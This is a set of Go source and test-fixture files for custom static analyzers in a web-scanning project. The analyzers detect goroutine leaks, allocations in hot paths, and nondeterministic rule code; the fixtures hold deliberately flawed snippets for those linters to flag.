			return false
		}
	}
	return true
}
