module example.com

go 1.22
