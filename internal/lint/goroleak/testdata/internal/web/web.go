// Package web is outside goroleak's scope (not serve, resilience or
// crawler): the same leak shapes pass without comment here.
package web

func background() {
	go func() {
		for {
		}
	}()
}
