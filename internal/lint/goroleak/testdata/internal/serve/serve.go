// Package serve exercises goroleak's accepted shutdown patterns and
// the leak shapes it must flag. The package path matters: goroleak only
// watches the long-running layers.
package serve

import (
	"context"
	"sync"
)

type server struct {
	jobs chan int
}

// accepted: ctx.Done() select arm.
func watch(ctx context.Context, kick chan int) {
	go func() {
		for {
			select {
			case <-ctx.Done():
				return
			case <-kick:
			}
		}
	}()
}

// accepted: ctx.Err() loop condition.
func poll(ctx context.Context) {
	go func() {
		for ctx.Err() == nil {
			work()
		}
	}()
}

// accepted: WaitGroup-joined workers.
func fanOut(n int) {
	var wg sync.WaitGroup
	for i := 0; i < n; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < 100; j++ {
				work()
			}
		}()
	}
	wg.Wait()
}

// accepted: the closer pattern — bounded by the join it performs.
func closer(wg *sync.WaitGroup, results chan int) {
	go func() {
		wg.Wait()
		close(results)
	}()
}

// accepted: straight-line body, send on a buffered channel.
func runListener() chan error {
	errc := make(chan error, 1)
	go func() {
		errc <- serveLoop()
	}()
	return errc
}

// accepted: range over a channel this package closes (see drainAll).
func consume(s *server) {
	go func() {
		for range s.jobs {
			work()
		}
	}()
}

func drainAll(s *server) {
	close(s.jobs)
}

// flagged: infinite loop with no cancellation hook.
func leakSpin() {
	go func() { // want `goroutine has no statically identifiable exit path`
		for {
			work()
		}
	}()
}

// flagged: send on an unbuffered channel can block forever.
func leakSend(done chan struct{}) {
	go func() { // want `goroutine has no statically identifiable exit path`
		work()
		done <- struct{}{}
	}()
}

// flagged: a bare receive is an unbounded wait.
func leakRecv(done chan struct{}) {
	go func() { // want `goroutine has no statically identifiable exit path`
		<-done
	}()
}

// flagged: range over a channel nothing in scope ever closes.
func leakRange(feed chan int) {
	go func() { // want `goroutine has no statically identifiable exit path`
		for range feed {
			work()
		}
	}()
}

// flagged: the spawned body is invisible (a function value).
func leakDynamic(f func()) {
	go f() // want `go statement spawns a function value, whose body hvlint cannot see`
}

// accepted after review: a justified suppression.
func sanctioned(block chan struct{}) {
	//lint:ignore goroleak fixture shows an audited exception
	go func() {
		<-block
	}()
}

// spawning a named in-module function is resolved through the call
// graph: spinForever's body decides.
func leakNamed() {
	go spinForever() // want `goroutine has no statically identifiable exit path`
}

func spinForever() {
	for {
		work()
	}
}

// and the named body with an exit passes.
func okNamed(ctx context.Context) {
	go tick(ctx)
}

func tick(ctx context.Context) {
	for ctx.Err() == nil {
		work()
	}
}

func work() {}

func serveLoop() error { return nil }
