// Package goroleak checks goroutine hygiene in the long-running layers
// (internal/serve, internal/resilience, internal/crawler): every go
// statement must have a statically identifiable exit path. A service
// that leaks one goroutine per request dies slowly and far from the
// leak; the chaos harness catches some of those at runtime, this
// analyzer catches the shape at review time.
//
// A spawned body is accepted when it exhibits one of the repo's
// sanctioned shutdown patterns:
//
//   - it observes cancellation: <-ctx.Done() (in a select arm or bare)
//     or a ctx.Err() loop condition;
//   - it is joined: it calls Done or Wait on a sync.WaitGroup;
//   - it drains a bounded stream: for-range over a channel that some
//     function in the same package closes;
//   - it is straight-line (no loops) and every channel send targets a
//     channel made with nonzero capacity in the same package, so the
//     send cannot block forever (the errc <- srv.Serve(ln) pattern) —
//     and it performs no bare channel receives.
//
// Spawning a function hvlint has no body for (another module, a
// function value) is flagged: wrap it in a supervised closure. A
// deliberate exception takes a //lint:ignore goroleak with its reason.
package goroleak

import (
	"go/ast"
	"go/types"

	"github.com/hvscan/hvscan/internal/lint/analysis"
)

var Analyzer = &analysis.Analyzer{
	Name: "goroleak",
	Doc: "go statements in internal/serve, internal/resilience and internal/crawler " +
		"must have a statically identifiable exit path: a ctx.Done()/ctx.Err() check, " +
		"a WaitGroup join, a close-bounded range, or a loop-free body whose sends are " +
		"all buffered.",
	NewRun: func() any { return &state{} },
	Run:    run,
}

// scopes are the packages whose goroutines must be hygienic: the ones
// that run unattended for days.
var scopes = []string{"internal/serve", "internal/resilience", "internal/crawler"}

type state struct {
	decls map[string]declRef
	idx   map[*analysis.Package]*chanIndex
}

type declRef struct {
	pkg *analysis.Package
	fd  *ast.FuncDecl
}

// chanIndex records, per package, which channel objects are ever
// closed and which are created with nonzero capacity.
type chanIndex struct {
	closed   map[types.Object]bool
	buffered map[types.Object]bool
}

func run(pass *analysis.Pass) error {
	inScope := false
	for _, s := range scopes {
		if analysis.HasPathSuffix(pass.Pkg.ImportPath, s) {
			inScope = true
			break
		}
	}
	if !inScope {
		return nil
	}
	st := pass.State.(*state)
	for _, f := range pass.Pkg.Syntax {
		ast.Inspect(f, func(n ast.Node) bool {
			g, ok := n.(*ast.GoStmt)
			if !ok {
				return true
			}
			checkGo(pass, st, g)
			return true
		})
	}
	return nil
}

func checkGo(pass *analysis.Pass, st *state, g *ast.GoStmt) {
	body, bodyPkg := spawnedBody(pass, st, g.Call)
	if body == nil {
		name := "a function value"
		if fn := analysis.CalleeOf(pass.Pkg.Info, g.Call); fn != nil {
			name = fn.Name()
		}
		pass.Reportf(g.Pos(), "go statement spawns %s, whose body hvlint cannot see: wrap it in a supervised closure with an explicit exit path", name)
		return
	}
	if hasExitPath(st, body, bodyPkg, pass.Pkg) {
		return
	}
	pass.Reportf(g.Pos(), "goroutine has no statically identifiable exit path: add a ctx.Done() select arm or ctx.Err() loop condition, join it with a WaitGroup, range over a channel this package closes, or keep the body loop-free with only buffered sends")
}

// spawnedBody resolves the code the go statement runs: a literal's
// body, or the in-module declaration of a named callee.
func spawnedBody(pass *analysis.Pass, st *state, call *ast.CallExpr) (*ast.BlockStmt, *analysis.Package) {
	if lit, ok := ast.Unparen(call.Fun).(*ast.FuncLit); ok {
		return lit.Body, pass.Pkg
	}
	fn := analysis.CalleeOf(pass.Pkg.Info, call)
	if fn == nil {
		return nil, nil
	}
	if st.decls == nil {
		st.decls = make(map[string]declRef)
		for _, pkg := range pass.Prog.Packages {
			for _, f := range pkg.Syntax {
				for _, decl := range f.Decls {
					fd, ok := decl.(*ast.FuncDecl)
					if !ok || fd.Body == nil {
						continue
					}
					if obj := pkg.Info.ObjectOf(fd.Name); obj != nil {
						st.decls[analysis.ObjKey(obj)] = declRef{pkg, fd}
					}
				}
			}
		}
	}
	ref, ok := st.decls[analysis.ObjKey(fn)]
	if !ok {
		return nil, nil
	}
	return ref.fd.Body, ref.pkg
}

// hasExitPath applies the accepted shutdown patterns to body, resolving
// channel lifecycle facts against both the body's package and the
// spawning package.
func hasExitPath(st *state, body *ast.BlockStmt, bodyPkg, spawnPkg *analysis.Package) bool {
	info := bodyPkg.Info
	exits := false
	loops := false
	sendsUnbuffered := false
	bareReceive := false
	ast.Inspect(body, func(n ast.Node) bool {
		switch n := n.(type) {
		case *ast.CallExpr:
			fn := analysis.CalleeOf(info, n)
			if fn == nil || fn.Pkg() == nil {
				return true
			}
			switch {
			case fn.Pkg().Path() == "context" && (fn.Name() == "Done" || fn.Name() == "Err"):
				exits = true
			case fn.Pkg().Path() == "sync" && (fn.Name() == "Done" || fn.Name() == "Wait"):
				exits = true
			}
		case *ast.ForStmt:
			loops = true
		case *ast.RangeStmt:
			if _, isChan := info.TypeOf(n.X).Underlying().(*types.Chan); isChan {
				obj := chanObj(info, n.X)
				if obj != nil && (st.chanIdx(bodyPkg).closed[obj] || st.chanIdx(spawnPkg).closed[obj]) {
					exits = true
				} else {
					loops = true
				}
			} else {
				loops = true
			}
		case *ast.SendStmt:
			obj := chanObj(info, n.Chan)
			if obj == nil || !(st.chanIdx(bodyPkg).buffered[obj] || st.chanIdx(spawnPkg).buffered[obj]) {
				sendsUnbuffered = true
			}
		case *ast.UnaryExpr:
			if n.Op.String() == "<-" {
				// Receiving from ctx.Done() is the cancellation pattern,
				// counted above; any other bare receive can block forever.
				if call, ok := ast.Unparen(n.X).(*ast.CallExpr); ok {
					if fn := analysis.CalleeOf(info, call); fn != nil && fn.Pkg() != nil &&
						fn.Pkg().Path() == "context" && fn.Name() == "Done" {
						return true
					}
				}
				bareReceive = true
			}
		}
		return true
	})
	if exits {
		return true
	}
	// Straight-line fallback: a loop-free body terminates unless it
	// blocks — which only buffered sends and no bare receives rule out.
	return !loops && !sendsUnbuffered && !bareReceive
}

// chanIdx lazily scans pkg for close(ch) targets and make(chan, n>0)
// results, keyed by channel object.
func (st *state) chanIdx(pkg *analysis.Package) *chanIndex {
	if st.idx == nil {
		st.idx = make(map[*analysis.Package]*chanIndex)
	}
	if idx := st.idx[pkg]; idx != nil {
		return idx
	}
	idx := &chanIndex{closed: make(map[types.Object]bool), buffered: make(map[types.Object]bool)}
	st.idx[pkg] = idx
	record := func(lhs ast.Expr, rhs ast.Expr) {
		call, ok := ast.Unparen(rhs).(*ast.CallExpr)
		if !ok || len(call.Args) < 2 {
			return
		}
		id, ok := ast.Unparen(call.Fun).(*ast.Ident)
		if !ok {
			return
		}
		if b, ok := pkg.Info.ObjectOf(id).(*types.Builtin); !ok || b.Name() != "make" {
			return
		}
		if _, isChan := pkg.Info.TypeOf(call.Args[0]).Underlying().(*types.Chan); !isChan {
			return
		}
		if lit, ok := ast.Unparen(call.Args[1]).(*ast.BasicLit); ok && lit.Value == "0" {
			return
		}
		if obj := chanObj(pkg.Info, lhs); obj != nil {
			idx.buffered[obj] = true
		}
	}
	for _, f := range pkg.Syntax {
		ast.Inspect(f, func(n ast.Node) bool {
			switch n := n.(type) {
			case *ast.CallExpr:
				if id, ok := ast.Unparen(n.Fun).(*ast.Ident); ok && len(n.Args) == 1 {
					if b, ok := pkg.Info.ObjectOf(id).(*types.Builtin); ok && b.Name() == "close" {
						if obj := chanObj(pkg.Info, n.Args[0]); obj != nil {
							idx.closed[obj] = true
						}
					}
				}
			case *ast.AssignStmt:
				for i, lhs := range n.Lhs {
					if i < len(n.Rhs) {
						record(lhs, n.Rhs[i])
					}
				}
			case *ast.ValueSpec:
				for i, name := range n.Names {
					if i < len(n.Values) {
						record(name, n.Values[i])
					}
				}
			}
			return true
		})
	}
	return idx
}

// chanObj resolves the object a channel expression names: a variable,
// parameter, or struct field.
func chanObj(info *types.Info, e ast.Expr) types.Object {
	switch e := ast.Unparen(e).(type) {
	case *ast.Ident:
		return info.ObjectOf(e)
	case *ast.SelectorExpr:
		return info.ObjectOf(e.Sel)
	}
	return nil
}
