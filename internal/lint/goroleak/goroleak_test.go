package goroleak_test

import (
	"testing"

	"github.com/hvscan/hvscan/internal/lint/analysis"
	"github.com/hvscan/hvscan/internal/lint/goroleak"
)

func TestGoroleak(t *testing.T) {
	analysis.RunTest(t, "testdata", goroleak.Analyzer)
}
