// Package alloczone enforces //hv:hotpath allocation-free zones: a
// function marked //hv:hotpath, and every function it transitively
// calls inside the module (over the statically resolved call graph),
// may not contain allocating constructs. The tokenizer's per-byte loop
// earned its zero-allocation benchmark numbers construct by construct;
// this analyzer keeps a refactor from quietly handing them back.
//
// Flagged constructs: string<->[]byte/[]rune conversions, make and new,
// slice/map composite literals, &T{...} heap composites, closure
// literals, go statements, fmt calls, and appends that grow a
// nil-started local (no preallocation). Appends into fields, parameters
// and capacity-carrying locals are the amortized-reuse pattern and stay
// legal, as do plain struct literals (stack values).
//
// Calls with no static callee (function values, interface methods) are
// not traversed — the same documented optimism as the rest of hvlint.
// A justified exception inside a zone takes a //lint:ignore alloczone.
package alloczone

import (
	"go/ast"
	"go/types"

	"github.com/hvscan/hvscan/internal/lint/analysis"
)

var Analyzer = &analysis.Analyzer{
	Name: "alloczone",
	Doc: "//hv:hotpath functions and everything they transitively call in-module " +
		"must not allocate: no string/byte conversions, make/new, slice/map or &T " +
		"literals, closures, go statements, fmt calls, or growth of nil-started " +
		"locals by append.",
	NewRun: func() any { return &state{} },
	Run:    run,
}

// state memoizes the hot zone for one driver run: every function key
// reachable from a //hv:hotpath root, mapped to the root that pulled it
// in (named in reports so a violation deep in a helper is traceable).
type state struct {
	hot map[string]string
}

func run(pass *analysis.Pass) error {
	st := pass.State.(*state)
	if st.hot == nil {
		st.hot = buildZone(pass.Prog)
	}
	for _, f := range pass.Pkg.Syntax {
		for _, decl := range f.Decls {
			fd, ok := decl.(*ast.FuncDecl)
			if !ok || fd.Body == nil {
				continue
			}
			obj := pass.ObjectOf(fd.Name)
			if obj == nil {
				continue
			}
			root, hot := st.hot[analysis.ObjKey(obj)]
			if !hot {
				continue
			}
			checkBody(pass, fd, root)
		}
	}
	return nil
}

// buildZone is a breadth-first closure over in-module call edges from
// the //hv:hotpath roots. The whole-program call graph exists before
// any analyzer runs, so the zone is complete on the first package.
func buildZone(prog *analysis.Program) map[string]string {
	hot := make(map[string]string)
	var queue []string
	for _, root := range prog.DirectiveKeys("hotpath") {
		hot[root] = root
		queue = append(queue, root)
	}
	for len(queue) > 0 {
		key := queue[0]
		queue = queue[1:]
		for _, e := range prog.Calls(key) {
			if !e.InModule {
				continue
			}
			if _, seen := hot[e.Callee]; seen {
				continue
			}
			hot[e.Callee] = hot[key]
			queue = append(queue, e.Callee)
		}
	}
	return hot
}

func checkBody(pass *analysis.Pass, fd *ast.FuncDecl, root string) {
	flag := func(pos ast.Node, what string) {
		pass.Reportf(pos.Pos(), "allocating construct in //hv:hotpath zone (via %s): %s", root, what)
	}
	nilStarted := nilStartedLocals(pass, fd)
	ast.Inspect(fd.Body, func(n ast.Node) bool {
		switch n := n.(type) {
		case *ast.FuncLit:
			flag(n, "closure literal allocates its capture environment")
			return false // the literal runs later; its body is not hot-zone code
		case *ast.GoStmt:
			flag(n, "go statement allocates a goroutine")
			return false
		case *ast.UnaryExpr:
			if _, ok := n.X.(*ast.CompositeLit); ok && n.Op.String() == "&" {
				flag(n, "&T{...} composite escapes to the heap")
				return false
			}
		case *ast.CompositeLit:
			switch pass.TypeOf(n).Underlying().(type) {
			case *types.Slice:
				flag(n, "slice literal allocates")
			case *types.Map:
				flag(n, "map literal allocates")
			}
		case *ast.CallExpr:
			checkCall(pass, n, nilStarted, flag)
		}
		return true
	})
}

func checkCall(pass *analysis.Pass, call *ast.CallExpr, nilStarted map[types.Object]bool, flag func(ast.Node, string)) {
	info := pass.Pkg.Info
	// Conversions: any crossing between string and byte/rune slices
	// copies the contents.
	if tv, ok := info.Types[call.Fun]; ok && tv.IsType() && len(call.Args) == 1 {
		if allocatingConversion(tv.Type, info.TypeOf(call.Args[0])) {
			flag(call, "string/[]byte conversion copies and allocates")
		}
		return
	}
	if id, ok := ast.Unparen(call.Fun).(*ast.Ident); ok {
		if b, ok := info.ObjectOf(id).(*types.Builtin); ok {
			switch b.Name() {
			case "make":
				flag(call, "make allocates")
			case "new":
				flag(call, "new allocates")
			case "append":
				if len(call.Args) > 0 {
					if id, ok := ast.Unparen(call.Args[0]).(*ast.Ident); ok && nilStarted[info.ObjectOf(id)] {
						flag(call, "append grows a nil-started local: preallocate with capacity outside the hot path")
					}
				}
			}
			return
		}
	}
	if fn := analysis.CalleeOf(info, call); fn != nil && fn.Pkg() != nil && fn.Pkg().Path() == "fmt" {
		flag(call, "fmt."+fn.Name()+" allocates and reflects: format off the hot path")
	}
}

// allocatingConversion reports whether converting from -> to copies
// contents: any crossing between string and a byte/rune slice.
func allocatingConversion(to, from types.Type) bool {
	if from == nil {
		return false
	}
	return stringish(to) != stringish(from) && (stringish(to) || stringish(from))
}

func stringish(t types.Type) bool {
	b, ok := t.Underlying().(*types.Basic)
	return ok && b.Info()&types.IsString != 0
}

// nilStartedLocals collects the function's `var x []T` declarations
// with no initializer: appends growing those have no preallocated
// capacity. Parameters and fields are reuse-pattern bases and excluded.
func nilStartedLocals(pass *analysis.Pass, fd *ast.FuncDecl) map[types.Object]bool {
	out := make(map[types.Object]bool)
	ast.Inspect(fd.Body, func(n ast.Node) bool {
		decl, ok := n.(*ast.GenDecl)
		if !ok {
			return true
		}
		for _, spec := range decl.Specs {
			vs, ok := spec.(*ast.ValueSpec)
			if !ok || len(vs.Values) > 0 {
				continue
			}
			for _, name := range vs.Names {
				obj := pass.ObjectOf(name)
				if obj == nil {
					continue
				}
				if _, isSlice := obj.Type().Underlying().(*types.Slice); isSlice {
					out[obj] = true
				}
			}
		}
		return true
	})
	return out
}
