package alloczone_test

import (
	"testing"

	"github.com/hvscan/hvscan/internal/lint/alloczone"
	"github.com/hvscan/hvscan/internal/lint/analysis"
)

func TestAllocZone(t *testing.T) {
	analysis.RunTest(t, "testdata", alloczone.Analyzer)
}
