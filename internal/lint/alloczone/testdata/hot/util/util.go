// Package util proves the zone crosses package boundaries: Grow is hot
// only because hot.Next calls it.
package util

func Grow(b []byte) string {
	return string(b) // want `string/\[\]byte conversion copies and allocates`
}
