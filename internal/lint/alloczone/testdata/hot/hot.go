// Package hot exercises the //hv:hotpath allocation-free zone: the
// root is marked, a helper is pulled in transitively, and a cross-
// package callee (util.Grow) is pulled in through the call graph.
package hot

import (
	"fmt"

	"example.com/hot/util"
)

type Tok struct {
	buf []byte
	n   int
}

// Next is the per-byte loop of the fixture.
//
//hv:hotpath benchmark-guarded per-byte loop
func (t *Tok) Next() int {
	t.helper()
	util.Grow(t.buf)
	return t.n
}

// helper is hot transitively: every allocating construct in it counts.
func (t *Tok) helper() {
	_ = string(t.buf)         // want `string/\[\]byte conversion copies and allocates`
	m := make(map[string]int) // want `make allocates`
	_ = m
	p := new(Tok) // want `new allocates`
	_ = p
	s := []int{1} // want `slice literal allocates`
	_ = s
	mm := map[string]int{} // want `map literal allocates`
	_ = mm
	pp := &Tok{} // want `&T\{\.\.\.\} composite escapes to the heap`
	_ = pp
	f := func() { t.n++ } // want `closure literal allocates its capture environment`
	f()
	go spin()          // want `go statement allocates a goroutine`
	fmt.Println("hot") // want `fmt.Println allocates and reflects`
	var acc []int
	acc = append(acc, t.n) // want `append grows a nil-started local`
	t.n = len(acc)
}

func spin() {}

// fill shows the amortized-reuse pattern staying legal: appends into
// fields and parameters, plain struct values, numeric conversions.
//
//hv:hotpath reuse-pattern regression guard
func (t *Tok) fill(p []byte) int {
	t.buf = append(t.buf, p...)
	p = append(p, 0)
	k := Tok{n: int(byte(len(p)))}
	return k.n
}

// slow holds a justified exception.
//
//hv:hotpath error exit needs one diagnostic copy
func (t *Tok) slow() string {
	//lint:ignore alloczone one-time copy on the error exit, not per byte
	return string(t.buf)
}

// cold is outside every zone: it may allocate freely.
func cold() string {
	return fmt.Sprintf("%d", len([]byte("cold")))
}
