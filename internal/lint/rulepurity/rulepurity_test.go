package rulepurity_test

import (
	"testing"

	"github.com/hvscan/hvscan/internal/lint/analysis"
	"github.com/hvscan/hvscan/internal/lint/rulepurity"
)

func TestRulePurity(t *testing.T) {
	analysis.RunTest(t, "testdata", rulepurity.Analyzer)
}
