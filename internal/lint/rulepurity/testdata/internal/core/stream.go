package core

// Scaffolding mirroring the real rule catalogue's shape: a Page over
// an embedded parse Result, tree-event helpers, and Rule literals in
// both tree and streaming flavours.

type Node struct{}

type TreeEvent struct{}

type Result struct {
	Doc    *Node
	Events []TreeEvent
	Tokens []int
}

func (r *Result) EventsByKind(kind int) []TreeEvent { return nil }

type Page struct {
	*Result
	URL string
}

type Finding struct{}

type Rule struct {
	ID           string
	TreeRequired bool
	Check        func(p *Page) []Finding
	Stream       func() func()
}

func eventFindings(p *Page, id string, kind int) []Finding {
	_ = p.EventsByKind(kind)
	return nil
}

func tokenHelper(p *Page) []Finding {
	_ = p.Tokens // token replay is stream-safe
	return nil
}

func docHelper(p *Page) []Finding {
	_ = p.Doc
	return nil
}

func indirectDocHelper(p *Page) []Finding {
	return docHelper(p)
}

var streamClean = Rule{
	ID:     "S1",
	Check:  func(p *Page) []Finding { return tokenHelper(p) },
	Stream: func() func() { return nil },
}

var treeMayUseDoc = Rule{
	ID:           "T1",
	TreeRequired: true,
	Check: func(p *Page) []Finding {
		_ = p.Doc
		return eventFindings(p, "T1", 0)
	},
}

var streamReadsDoc = Rule{
	ID: "S2",
	Check: func(p *Page) []Finding {
		_ = p.Doc // want `rule "S2" is streaming .* reads \.Doc`
		return nil
	},
}

var streamReadsEvents = Rule{
	ID: "S3",
	Check: func(p *Page) []Finding {
		_ = p.Events // want `rule "S3" is streaming .* reads \.Events`
		return nil
	},
}

var streamCallsEventsByKind = Rule{
	ID: "S4",
	Check: func(p *Page) []Finding {
		_ = p.EventsByKind(0) // want `rule "S4" is streaming .* calls EventsByKind`
		return nil
	},
}

var streamCallsEventFindings = Rule{
	ID: "S5",
	Check: func(p *Page) []Finding {
		return eventFindings(p, "S5", 0) // want `rule "S5" is streaming .* eventFindings`
	},
}

var streamViaHelper = Rule{
	ID:    "S6",
	Check: docHelper, // want `rule "S6" is streaming .* references docHelper`
}

var streamViaIndirectHelper = Rule{
	ID: "S7",
	Check: func(p *Page) []Finding {
		return indirectDocHelper(p) // want `rule "S7" is streaming .* references indirectDocHelper`
	},
}

var explicitFalseStillChecked = Rule{
	ID:           "S8",
	TreeRequired: false,
	Stream: func() func() {
		p := &Page{}
		_ = p.Doc // want `rule "S8" is streaming .* its Stream reads \.Doc`
		return nil
	},
}
