// Package core exercises the determinism rules: no clock or
// randomness reads, no package-level writes, no unsorted map output.
package core

import (
	"math/rand"
	"sort"
	"time"
)

var hitCount int

var table = map[string]int{}

func clockRule() bool {
	return time.Now().Unix()%2 == 0 // want `time.Now reads the clock`
}

func timerRule() {
	<-time.After(time.Millisecond) // want `time.After reads the clock`
}

func randomRule() bool {
	return rand.Intn(2) == 0 // want `math/rand makes findings irreproducible`
}

func countsGlobally() {
	hitCount++ // want `writing package-level state \(hitCount\)`
}

func assignsGlobally(n int) {
	hitCount = n // want `writing package-level state \(hitCount\)`
}

func mutatesGlobalMap(k string) {
	table[k] = 1 // want `writing package-level state \(table\)`
}

func unsortedKeys(m map[string]int) []string {
	var out []string
	for k := range m { // want `map iteration order is randomized`
		out = append(out, k)
	}
	return out
}

func sortedKeys(m map[string]int) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

func orderInsensitive(m map[string]int) int {
	n := 0
	for _, v := range m {
		n += v
	}
	return n
}

func localStateIsFine() int {
	x := 0
	x++
	return x
}

func pureTimeArithmetic(d time.Duration) float64 {
	return d.Seconds()
}

func suppressed() {
	//lint:ignore rulepurity debug hook, stripped before the catalogue runs
	hitCount++
}
