// Package helpers is outside internal/core: the purity rules do not
// apply here.
package helpers

import "time"

var calls int

func Stamp() int64 {
	calls++
	return time.Now().UnixNano()
}
