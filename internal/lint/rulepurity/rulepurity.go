// Package rulepurity keeps the violation catalogue deterministic.
//
// Invariant (paper §3.2, DESIGN.md "Rules"): internal/core rules are
// pure functions of the parsed page — the same document must produce
// the same findings on every run, machine, and worker interleaving,
// because the longitudinal tables diff rule hits across snapshots.
// Three impurity sources are flagged anywhere in the package: clock
// and randomness reads (time.Now/Since/..., math/rand), writes to
// package-level state, and iterating a map into ordered output
// (append inside a map range) without a subsequent sort in the same
// function.
package rulepurity

import (
	"go/ast"
	"go/types"

	"github.com/hvscan/hvscan/internal/lint/analysis"
)

// impureTimeFuncs are the time package entry points that read the
// clock; pure time arithmetic (Duration methods, constants) is fine.
var impureTimeFuncs = map[string]bool{
	"Now": true, "Since": true, "Until": true, "Sleep": true,
	"Tick": true, "After": true, "AfterFunc": true, "NewTimer": true, "NewTicker": true,
}

// Analyzer checks every function in internal/core.
var Analyzer = &analysis.Analyzer{
	Name: "rulepurity",
	Doc: "internal/core rules must be deterministic: no clock or randomness " +
		"reads, no writes to package-level state, no map iteration into " +
		"ordered output without sorting",
	Run: run,
}

func run(pass *analysis.Pass) error {
	if !analysis.HasPathSuffix(pass.Pkg.ImportPath, "internal/core") {
		return nil
	}
	for _, f := range pass.Pkg.Syntax {
		analysis.WalkStack(f, func(n ast.Node, stack []ast.Node) bool {
			switch n := n.(type) {
			case *ast.CallExpr:
				fn := pass.Callee(n)
				if fn == nil || fn.Pkg() == nil {
					return true
				}
				switch {
				case fn.Pkg().Path() == "time" && impureTimeFuncs[fn.Name()]:
					pass.Reportf(n.Pos(),
						"rules must be deterministic: time.%s reads the clock; findings may not depend on wall time", fn.Name())
				case fn.Pkg().Path() == "math/rand" || fn.Pkg().Path() == "math/rand/v2":
					pass.Reportf(n.Pos(),
						"rules must be deterministic: math/rand makes findings irreproducible across runs")
				}
			case *ast.AssignStmt:
				for _, lhs := range n.Lhs {
					checkGlobalWrite(pass, lhs)
				}
			case *ast.IncDecStmt:
				checkGlobalWrite(pass, n.X)
			case *ast.RangeStmt:
				checkMapRange(pass, n, stack)
			}
			return true
		})
	}
	return nil
}

// checkGlobalWrite flags an assignment whose target resolves to a
// package-level variable (directly or through an index/field/deref
// chain rooted at one).
func checkGlobalWrite(pass *analysis.Pass, lhs ast.Expr) {
	for {
		switch e := lhs.(type) {
		case *ast.ParenExpr:
			lhs = e.X
		case *ast.IndexExpr:
			lhs = e.X
		case *ast.StarExpr:
			lhs = e.X
		case *ast.SelectorExpr:
			// pkg.Var or global.Field: the selected identifier decides.
			if obj := pass.ObjectOf(e.Sel); isPackageLevelVar(obj) {
				pass.Reportf(lhs.Pos(),
					"rules must be deterministic: writing package-level state (%s) makes findings depend on evaluation order", e.Sel.Name)
				return
			}
			lhs = e.X
		case *ast.Ident:
			if obj := pass.ObjectOf(e); isPackageLevelVar(obj) {
				pass.Reportf(lhs.Pos(),
					"rules must be deterministic: writing package-level state (%s) makes findings depend on evaluation order", e.Name)
			}
			return
		default:
			return
		}
	}
}

func isPackageLevelVar(obj types.Object) bool {
	v, ok := obj.(*types.Var)
	return ok && v.Pkg() != nil && v.Parent() == v.Pkg().Scope()
}

// checkMapRange flags `for ... := range m` over a map whose body builds
// a slice with append, unless the enclosing function also sorts —
// map iteration order is randomized, so unsorted accumulation leaks
// nondeterminism into rule output.
func checkMapRange(pass *analysis.Pass, n *ast.RangeStmt, stack []ast.Node) {
	t := pass.TypeOf(n.X)
	if t == nil {
		return
	}
	if _, ok := t.Underlying().(*types.Map); !ok {
		return
	}
	if !containsAppend(pass, n.Body) {
		return // order-insensitive aggregation (counting, any-of checks)
	}
	if fn := analysis.EnclosingFunc(stack); fn != nil && containsSortCall(pass, fn) {
		return // accumulated then sorted: deterministic
	}
	pass.Reportf(n.Pos(),
		"map iteration order is randomized: appending inside a map range without sorting afterwards makes the output order nondeterministic")
}

func containsAppend(pass *analysis.Pass, body ast.Node) bool {
	found := false
	ast.Inspect(body, func(n ast.Node) bool {
		call, ok := n.(*ast.CallExpr)
		if !ok {
			return true
		}
		if id, ok := ast.Unparen(call.Fun).(*ast.Ident); ok {
			if b, ok := pass.ObjectOf(id).(*types.Builtin); ok && b.Name() == "append" {
				found = true
				return false
			}
		}
		return true
	})
	return found
}

func containsSortCall(pass *analysis.Pass, fn ast.Node) bool {
	found := false
	ast.Inspect(fn, func(n ast.Node) bool {
		call, ok := n.(*ast.CallExpr)
		if !ok {
			return true
		}
		if f := pass.Callee(call); f != nil && f.Pkg() != nil &&
			(f.Pkg().Path() == "sort" || f.Pkg().Path() == "slices") {
			found = true
			return false
		}
		return true
	})
	return found
}
