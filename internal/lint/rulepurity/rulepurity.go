// Package rulepurity keeps the violation catalogue deterministic.
//
// Invariant (paper §3.2, DESIGN.md "Rules"): internal/core rules are
// pure functions of the parsed page — the same document must produce
// the same findings on every run, machine, and worker interleaving,
// because the longitudinal tables diff rule hits across snapshots.
// Three impurity sources are flagged anywhere in the package: clock
// and randomness reads (time.Now/Since/..., math/rand), writes to
// package-level state, and iterating a map into ordered output
// (append inside a map range) without a subsequent sort in the same
// function.
//
// A fourth check guards the streaming contract (DESIGN.md §13): a Rule
// declared with TreeRequired false is promised to the two-phase checker
// as tokenizer-only, so its Check and Stream functions — and any
// package-local function they reference — must not read the parse tree
// (Page.Doc, Page.Events, EventsByKind, eventFindings). A violation
// would make CheckStream silently miss findings that Check reports.
package rulepurity

import (
	"go/ast"
	"go/token"
	"go/types"

	"github.com/hvscan/hvscan/internal/lint/analysis"
)

// impureTimeFuncs are the time package entry points that read the
// clock; pure time arithmetic (Duration methods, constants) is fine.
var impureTimeFuncs = map[string]bool{
	"Now": true, "Since": true, "Until": true, "Sleep": true,
	"Tick": true, "After": true, "AfterFunc": true, "NewTimer": true, "NewTicker": true,
}

// Analyzer checks every function in internal/core.
var Analyzer = &analysis.Analyzer{
	Name: "rulepurity",
	Doc: "internal/core rules must be deterministic: no clock or randomness " +
		"reads, no writes to package-level state, no map iteration into " +
		"ordered output without sorting; rules declared TreeRequired=false " +
		"must not touch the parse tree",
	Run: run,
}

func run(pass *analysis.Pass) error {
	if !analysis.HasPathSuffix(pass.Pkg.ImportPath, "internal/core") {
		return nil
	}
	for _, f := range pass.Pkg.Syntax {
		analysis.WalkStack(f, func(n ast.Node, stack []ast.Node) bool {
			switch n := n.(type) {
			case *ast.CallExpr:
				fn := pass.Callee(n)
				if fn == nil || fn.Pkg() == nil {
					return true
				}
				switch {
				case fn.Pkg().Path() == "time" && impureTimeFuncs[fn.Name()]:
					pass.Reportf(n.Pos(),
						"rules must be deterministic: time.%s reads the clock; findings may not depend on wall time", fn.Name())
				case fn.Pkg().Path() == "math/rand" || fn.Pkg().Path() == "math/rand/v2":
					pass.Reportf(n.Pos(),
						"rules must be deterministic: math/rand makes findings irreproducible across runs")
				}
			case *ast.AssignStmt:
				for _, lhs := range n.Lhs {
					checkGlobalWrite(pass, lhs)
				}
			case *ast.IncDecStmt:
				checkGlobalWrite(pass, n.X)
			case *ast.RangeStmt:
				checkMapRange(pass, n, stack)
			}
			return true
		})
	}
	checkStreamPurity(pass)
	return nil
}

